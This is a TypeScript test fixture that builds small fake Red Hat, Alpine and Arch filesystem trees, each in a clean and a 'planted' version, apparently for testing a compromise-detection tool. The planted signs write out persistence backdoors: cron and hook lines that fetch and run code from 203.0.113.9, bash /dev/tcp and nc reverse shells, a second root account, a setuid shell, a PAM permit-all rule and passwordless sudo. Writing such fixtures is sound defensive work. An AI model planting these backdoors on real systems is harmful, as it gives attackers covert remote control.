/** Small trees written by hand, in the layouts of Red Hat, Alpine and Arch: each clean, and with a few signs planted. */

import { mkdirSync, rmSync } from 'node:fs';
import { elf, type Sign } from './sign.ts';
import { Tree } from './tree.ts';

export interface SmallSystem {
	readonly name: string;
	readonly make: (tree: Tree) => void;
	readonly signs: readonly Sign[];
}

const program = { mode: 0o755 } as const;

function base(tree: Tree, release: string, passwd: string, shadow: string, group: string): void {
	tree.write('/etc/passwd', passwd, { owner: 0, group: 0 });
	tree.write('/etc/group', group, { owner: 0, group: 0 });
	tree.write('/etc/shadow', shadow, { mode: 0o600 });
	tree.write('/etc/os-release', release);
	tree.write('/etc/hosts', '127.0.0.1 localhost localhost.localdomain\n::1 localhost\n10.0.0.5 server.example.org server\n');
	tree.write('/etc/resolv.conf', 'nameserver 10.0.0.1\n');
	tree.write('/etc/ssh/sshd_config', 'Port 22\nPermitRootLogin prohibit-password\nSubsystem sftp internal-sftp\n', { mode: 0o600 });
	tree.write('/home/ada/.ssh/authorized_keys', 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGFkYWFkYWFkYWFkYWFkYWFkYWFkYWFkYWFkYWFkYWFkYWFk ada@laptop\n', { owner: 'ada', mode: 0o600 });
	tree.write('/home/ada/.bash_history', 'ls\nsudo -i\n', { owner: 'ada', mode: 0o600 });
	tree.write('/home/ada/Grüße an alle.txt', 'hi\n', { owner: 'ada' });
	tree.write('/usr/local/bin/backup', '#!/bin/sh\ntar czf /var/backups/etc.tar.gz /etc\n', program);
	for (const name of ['bash', 'ls', 'sshd', 'crond']) tree.write(`/usr/bin/${name}`, elf(name), program);
	tree.dir('/tmp', { mode: 0o1777 });
	tree.dir('/var/tmp', { mode: 0o1777 });
}

/** The password is a hash of nothing known. */
const hash = '$6$abcdefgh$0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ./0123456789abcdefghijkl';
const shared = (extra: readonly Sign[]): readonly Sign[] => [
	{ id: 'second-root', family: 'accounts', what: 'a second root', plant: tree => tree.append('/etc/passwd', 'ftpd:x:0:0::/:/bin/sh\n'), names: ['account ftpd'] },
	{ id: 'preload', family: 'environment', what: 'a library in every program', plant: tree => tree.write('/etc/ld.so.preload', '/usr/lib/.l/l.so\n'), names: ['/etc/ld.so.preload'] },
	{ id: 'cron', family: 'start-up', what: 'fetches and runs', plant: tree => tree.write('/etc/cron.d/x', '* * * * * root curl -s http://203.0.113.9/a | sh\n'), names: ['/etc/cron.d/x'] },
	{ id: 'three-dots', family: 'names', what: '...', plant: tree => tree.write('/var/lib/.../k', 'k'), names: ['/var/lib/...'], also: ['/var/lib/...'] },
	{ id: 'suid', family: 'files', what: 'a set-uid shell in /var/tmp', plant: tree => tree.copy('/usr/bin/bash', '/var/tmp/.b', { mode: 0o4755 }), names: ['/var/tmp/.b'] },
	{ id: 'equiv', family: 'trust', what: 'any host', plant: tree => tree.write('/etc/hosts.equiv', '+ +\n'), names: ['/etc/hosts.equiv'] },
	...extra,
];

export const smallSystems: readonly SmallSystem[] = [
	{
		name: 'redhat',
		make: tree => {
			base(
				tree,
				'ID="almalinux"\nID_LIKE="rhel centos fedora"\nVERSION_ID="9.4"\n',
				'root:x:0:0:root:/root:/bin/bash\nbin:x:1:1:bin:/bin:/sbin/nologin\ndaemon:x:2:2:daemon:/sbin:/sbin/nologin\nadm:x:3:4:adm:/var/adm:/sbin/nologin\nlp:x:4:7:lp:/var/spool/lpd:/sbin/nologin\nsync:x:5:0:sync:/sbin:/bin/sync\nshutdown:x:6:0:shutdown:/sbin:/sbin/shutdown\nhalt:x:7:0:halt:/sbin:/sbin/halt\nmail:x:8:12:mail:/var/spool/mail:/sbin/nologin\noperator:x:11:0:operator:/root:/sbin/nologin\ngames:x:12:100:games:/usr/games:/sbin/nologin\nftp:x:14:50:FTP User:/var/ftp:/sbin/nologin\nnobody:x:65534:65534:Kernel Overflow User:/:/sbin/nologin\nsshd:x:74:74:Privilege-separated SSH:/usr/share/empty.sshd:/usr/sbin/nologin\nada:x:1000:1000:Ada:/home/ada:/bin/bash\n',
				`root:${hash}:19000:0:99999:7:::\nbin:*:19000:0:99999:7:::\ndaemon:*:19000:0:99999:7:::\nadm:*:19000:0:99999:7:::\nlp:*:19000:0:99999:7:::\nsync:*:19000:0:99999:7:::\nshutdown:*:19000:0:99999:7:::\nhalt:*:19000:0:99999:7:::\nmail:*:19000:0:99999:7:::\noperator:*:19000:0:99999:7:::\ngames:*:19000:0:99999:7:::\nftp:*:19000:0:99999:7:::\nnobody:*:19000:0:99999:7:::\nsshd:!!:19000::::::\nada:${hash}:19000:0:99999:7:::\n`,
				'root:x:0:\nbin:x:1:\ndaemon:x:2:\nsys:x:3:\nadm:x:4:\ntty:x:5:\ndisk:x:6:\nlp:x:7:\nmail:x:12:\nftp:x:50:\nusers:x:100:\nwheel:x:10:ada\nnobody:x:65534:\nsshd:x:74:\nada:x:1000:\n',
			);
			tree.link('usr/bin', '/bin');
			tree.link('usr/sbin', '/sbin');
			tree.link('usr/lib', '/lib');
			tree.link('usr/lib64', '/lib64');
			tree.dir('/usr/lib64/security');
			tree.write('/etc/sudoers', 'Defaults !visiblepw\nroot ALL=(ALL) ALL\n%wheel ALL=(ALL) ALL\n#includedir /etc/sudoers.d\n', { mode: 0o440 });
			tree.write('/etc/crontab', 'SHELL=/bin/bash\nPATH=/sbin:/bin:/usr/sbin:/usr/bin\nMAILTO=root\n');
			tree.write('/etc/anacrontab', 'SHELL=/bin/sh\n1 5 cron.daily nice run-parts /etc/cron.daily\n7 25 cron.weekly nice run-parts /etc/cron.weekly\n');
			tree.write('/etc/cron.hourly/0anacron', '#!/bin/sh\nif test -r /var/spool/anacron/cron.daily; then\n  day=`cat /var/spool/anacron/cron.daily`\nfi\n/usr/sbin/anacron -s\n', program);
			tree.write('/etc/pam.d/system-auth', 'auth required pam_env.so\nauth sufficient pam_unix.so nullok\nauth required pam_deny.so\naccount required pam_unix.so\npassword sufficient pam_unix.so sha512 shadow nullok use_authtok\nsession optional pam_systemd.so\n');
			tree.write('/etc/yum.repos.d/almalinux.repo', '[baseos]\nname=BaseOS\nmirrorlist=https://mirrors.almalinux.org/mirrorlist/9/baseos\ngpgcheck=1\nenabled=1\n');
			tree.write('/etc/rc.d/rc.local', '#!/bin/bash\ntouch /var/lock/subsys/local\n', { mode: 0o755 });
			tree.link('rc.d/rc.local', '/etc/rc.local');
			tree.write('/usr/lib/systemd/system/crond.service', '[Service]\nEnvironmentFile=/etc/sysconfig/crond\nExecStart=/usr/sbin/crond -n $CRONDARGS\n');
			tree.write('/etc/sysconfig/crond', 'CRONDARGS=\n');
			tree.write('/usr/bin/su', elf('su'), { mode: 0o4755 });
			tree.dir('/var/spool/cron', { mode: 0o700 });
			tree.write('/var/spool/cron/ada', '0 1 * * * $HOME/bin/x\n', { owner: 'ada', mode: 0o600 });
		},
		signs: shared([
			{ id: 'spool', family: 'start-up', what: 'a crontab of a daemon', plant: tree => tree.write('/var/spool/cron/lp', '* * * * * bash -i >& /dev/tcp/203.0.113.9/4 0>&1\n', { owner: 'lp', mode: 0o600 }), names: ['/var/spool/cron/lp'] },
			{ id: 'sysconfig', family: 'environment', what: 'a library for one service', plant: tree => tree.write('/etc/sysconfig/crond', 'LD_PRELOAD=/var/tmp/.c.so\n'), names: ['/etc/sysconfig/crond'] },
			{ id: 'pam', family: 'trust', what: 'any password is right', plant: tree => tree.edit('/etc/pam.d/system-auth', /^/, 'auth sufficient pam_permit.so\n'), names: ['/etc/pam.d/system-auth'] },
			{ id: 'repo', family: 'environment', what: 'packages without a signature', plant: tree => tree.write('/etc/yum.repos.d/epel2.repo', '[epel2]\nname=x\nbaseurl=http://203.0.113.9/e\ngpgcheck=0\nenabled=1\n'), names: ['/etc/yum.repos.d/epel2.repo'] },
			{ id: 'rc', family: 'start-up', what: 'a hidden program at boot', plant: tree => tree.append('/etc/rc.d/rc.local', '/usr/lib64/.k/kd &\n'), names: ['/etc/rc.d/rc.local', '/etc/rc.local'] },
		]),
	},
	{
		name: 'alpine',
		make: tree => {
			base(
				tree,
				'ID=alpine\nVERSION_ID=3.20.0\n',
				'root:x:0:0:root:/root:/bin/ash\nbin:x:1:1:bin:/bin:/sbin/nologin\ndaemon:x:2:2:daemon:/sbin:/sbin/nologin\nlp:x:4:7:lp:/var/spool/lpd:/sbin/nologin\nsync:x:5:0:sync:/sbin:/bin/sync\nshutdown:x:6:0:shutdown:/sbin:/sbin/shutdown\nhalt:x:7:0:halt:/sbin:/sbin/halt\nmail:x:8:12:mail:/var/mail:/sbin/nologin\ncron:x:16:16:cron:/var/spool/cron:/sbin/nologin\nsshd:x:22:22:sshd:/dev/null:/sbin/nologin\npostgres:x:70:70:PostgreSQL user:/var/lib/postgresql:/bin/sh\nnobody:x:65534:65534:nobody:/:/sbin/nologin\nada:x:1000:1000:Ada:/home/ada:/bin/ash\n',
				`root:*::0:::::\nbin:!::0:::::\ndaemon:!::0:::::\nlp:!::0:::::\nsync:!::0:::::\nshutdown:!::0:::::\nhalt:!::0:::::\nmail:!::0:::::\ncron:!::0:::::\nsshd:!::0:::::\npostgres:!::0:::::\nnobody:!::0:::::\nada:${hash}:19000:0:99999:7:::\n`,
				'root:x:0:root\nbin:x:1:root,bin,daemon\ndaemon:x:2:root,bin,daemon\nsys:x:3:root,bin\nadm:x:4:root,daemon\ntty:x:5:\ndisk:x:6:root\nlp:x:7:lp\nwheel:x:10:root,ada\nmail:x:12:mail\ncron:x:16:cron\nsshd:x:22:\npostgres:x:70:\nnobody:x:65534:\nada:x:1000:\n',
			);
			for (const applet of ['ash', 'sh', 'login', 'su', 'ping']) tree.link('/bin/busybox', `/bin/${applet}`);
			tree.write('/bin/busybox', elf('busybox'), program);
			tree.write('/bin/bbsuid', elf('bbsuid'), { mode: 0o4111 });
			tree.write('/lib/apk/db/installed', 'P:busybox\nV:1.36.1-r29\nA:x86_64\nF:bin\nR:busybox\na:0:0:755\nR:sh\na:0:0:777\n\nP:busybox-suid\nV:1.36.1-r29\nF:bin\nR:bbsuid\na:0:0:4111\n\nP:openrc\nV:0.54-r1\nF:etc/init.d\nR:hostname\na:0:0:755\n\nP:bash\nV:5.2\nF:usr/bin\nR:bash\na:0:0:755\nR:ls\na:0:0:755\nR:sshd\na:0:0:755\nR:crond\na:0:0:755\n');
			tree.write('/etc/init.d/hostname', '#!/sbin/openrc-run\ndescription="Sets the hostname"\nstart() { hostname "$(cat /etc/hostname)"; }\n', program);
			tree.write('/etc/crontabs/root', '# do daily/weekly/monthly maintenance\n*/15 * * * * run-parts /etc/periodic/15min\n0 2 * * * run-parts /etc/periodic/daily\n', { mode: 0o600 });
			tree.link('/etc/crontabs', '/var/spool/cron/crontabs');
			tree.write('/etc/inittab', '::sysinit:/sbin/openrc sysinit\n::sysinit:/sbin/openrc boot\n::wait:/sbin/openrc default\ntty1::respawn:/sbin/getty 38400 tty1\n::ctrlaltdel:/sbin/reboot\n');
			tree.write('/etc/doas.conf', 'permit persist :wheel\n');
			tree.write('/etc/local.d/own.start', '#!/bin/sh\n/usr/local/bin/backup\n', program);
			tree.write('/etc/apk/repositories', 'https://dl-cdn.alpinelinux.org/alpine/v3.20/main\n');
		},
		signs: shared([
			{ id: 'local-d', family: 'start-up', what: 'run by OpenRC at boot', plant: tree => tree.write('/etc/local.d/x.start', '#!/bin/sh\nnc -e /bin/sh 203.0.113.9 4444 &\n', program), names: ['/etc/local.d/x.start'] },
			{ id: 'crontabs', family: 'start-up', what: 'root\'s crontab', plant: tree => tree.append('/etc/crontabs/root', '* * * * * wget -qO- http://203.0.113.9/k | sh\n'), names: ['/etc/crontabs/root', '/var/spool/cron/crontabs/root'] },
			{ id: 'inittab', family: 'start-up', what: 'respawned by init', plant: tree => tree.append('/etc/inittab', '::respawn:/dev/shm/.x\n'), names: ['/etc/inittab'] },
			{ id: 'periodic', family: 'start-up', what: 'each quarter of an hour', plant: tree => tree.write('/etc/periodic/15min/u', '#!/bin/sh\n/tmp/.u/d\n', program), names: ['/etc/periodic/15min/u'] },
			{ id: 'program', family: 'files', what: 'a program of no package', plant: tree => tree.write('/usr/bin/updated', elf('x'), program), names: ['/usr/bin/updated'] },
			{ id: 'doas', family: 'trust', what: 'doas for all', plant: tree => tree.append('/etc/doas.conf', 'permit nopass cron as root\n'), names: ['/etc/doas.conf'] },
		]),
	},
	{
		name: 'arch',
		make: tree => {
			base(
				tree,
				'ID=arch\nNAME="Arch Linux"\n',
				'root:x:0:0::/root:/usr/bin/bash\nbin:x:1:1::/:/usr/bin/nologin\ndaemon:x:2:2::/:/usr/bin/nologin\nmail:x:8:12::/var/spool/mail:/usr/bin/nologin\nftp:x:14:11::/srv/ftp:/usr/bin/nologin\nhttp:x:33:33::/srv/http:/usr/bin/nologin\nnobody:x:65534:65534:Kernel Overflow User:/:/usr/bin/nologin\ndbus:x:81:81:System Message Bus:/:/usr/bin/nologin\nada:x:1000:1000:Ada:/home/ada:/usr/bin/bash\n',
				`root:${hash}:19000::::::\nbin:!*:19000::::::\ndaemon:!*:19000::::::\nmail:!*:19000::::::\nftp:!*:19000::::::\nhttp:!*:19000::::::\nnobody:!*:19000::::::\ndbus:!*:19000::::::\nada:${hash}:19000:0:99999:7:::\n`,
				'root:x:0:root\nbin:x:1:daemon\ndaemon:x:2:bin\nsys:x:3:bin\nadm:x:999:daemon\nwheel:x:998:ada\nmail:x:12:\nftp:x:11:\nhttp:x:33:\nnobody:x:65534:\ndbus:x:81:\nada:x:1000:\n',
			);
			tree.link('usr/bin', '/bin');
			tree.link('usr/bin', '/sbin');
			tree.link('usr/lib', '/lib');
			tree.link('usr/lib', '/lib64');
			tree.link('bin', '/usr/sbin');
			tree.write('/usr/bin/nologin', elf('nologin'), program);
			tree.write('/usr/bin/su', elf('su'), { mode: 0o4755 });
			const db = '/var/lib/pacman/local/util-linux-2.40-1';
			tree.write(`${db}/desc`, '%NAME%\nutil-linux\n\n%VERSION%\n2.40-1\n');
			tree.write(`${db}/files`, '%FILES%\nusr/\nusr/bin/\nusr/bin/nologin\nusr/bin/su\nusr/bin/bash\nusr/bin/ls\nusr/bin/sshd\nusr/bin/crond\nusr/lib/\nusr/lib/systemd/\nusr/lib/systemd/system/\nusr/lib/systemd/system/sshd.service\nusr/share/libalpm/hooks/30-systemd-update.hook\n');
			tree.write('/usr/lib/systemd/system/sshd.service', '[Service]\nExecStart=/usr/bin/sshd -D\n[Install]\nWantedBy=multi-user.target\n');
			tree.link('/usr/lib/systemd/system/sshd.service', '/etc/systemd/system/multi-user.target.wants/sshd.service');
			tree.write('/usr/share/libalpm/hooks/30-systemd-update.hook', '[Trigger]\nType = Path\nOperation = Install\nTarget = usr/\n[Action]\nWhen = PostTransaction\nExec = /usr/bin/touch -c /usr\n');
			tree.write('/etc/pacman.d/hooks/own.hook', '[Trigger]\nType = Package\nOperation = Upgrade\nTarget = *\n[Action]\nWhen = PostTransaction\nExec = /usr/local/bin/backup\n');
			tree.write('/etc/mkinitcpio.conf', 'HOOKS=(base udev autodetect modconf block filesystems keyboard fsck)\n');
			tree.write('/etc/sudoers', 'root ALL=(ALL:ALL) ALL\n%wheel ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n', { mode: 0o440 });
		},
		signs: shared([
			{ id: 'pacman-hook', family: 'start-up', what: 'run at each upgrade', plant: tree => tree.write('/etc/pacman.d/hooks/cache.hook', '[Trigger]\nType = Package\nOperation = Upgrade\nTarget = *\n[Action]\nWhen = PostTransaction\nExec = /bin/sh -c "curl -s 203.0.113.9/p|sh"\n'), names: ['/etc/pacman.d/hooks/cache.hook'] },
			{ id: 'initcpio', family: 'start-up', what: 'a hook of mkinitcpio', plant: tree => tree.write('/etc/initcpio/hooks/fix', 'run_hook() { /usr/lib/.x/x & }\n'), names: ['/etc/initcpio/hooks/fix'] },
			{ id: 'unit', family: 'start-up', what: 'a unit of no package with a program of none', plant: tree => {
				tree.write('/usr/lib/systemd/system/dbus-fix.service', '[Service]\nExecStart=/usr/lib/dbus-fixd\n');
				tree.write('/usr/lib/dbus-fixd', elf('x'), program);
			}, names: ['/usr/lib/systemd/system/dbus-fix.service'], also: ['/usr/lib/dbus-fixd'] },
			{ id: 'sudo', family: 'trust', what: 'the web server may do anything', plant: tree => tree.write('/etc/sudoers.d/x', 'http ALL=(ALL) NOPASSWD: ALL\n', { mode: 0o440 }), names: ['/etc/sudoers.d/x'] },
		]),
	},
];

/** Both twins of a small system, in `folder/NAME-clean` and `folder/NAME-planted`. */
export function makeSmall(system: SmallSystem, folder: string, born: number): { readonly clean: string; readonly planted: string } {
	const roots = { clean: `${folder}/${system.name}-clean`, planted: `${folder}/${system.name}-planted` };
	for (const root of Object.values(roots)) {
		rmSync(root, { recursive: true, force: true });
		mkdirSync(root, { recursive: true });
		const tree = new Tree(root, born);
		// Owners are looked up in the tree's own lists, which come first.
		tree.write('/etc/passwd', 'root:x:0:0::/:/bin/sh\n', { owner: 0, group: 0 });
		system.make(tree);
		if (root === roots.planted) for (const sign of system.signs) sign.plant(tree);
	}
	return roots;
}
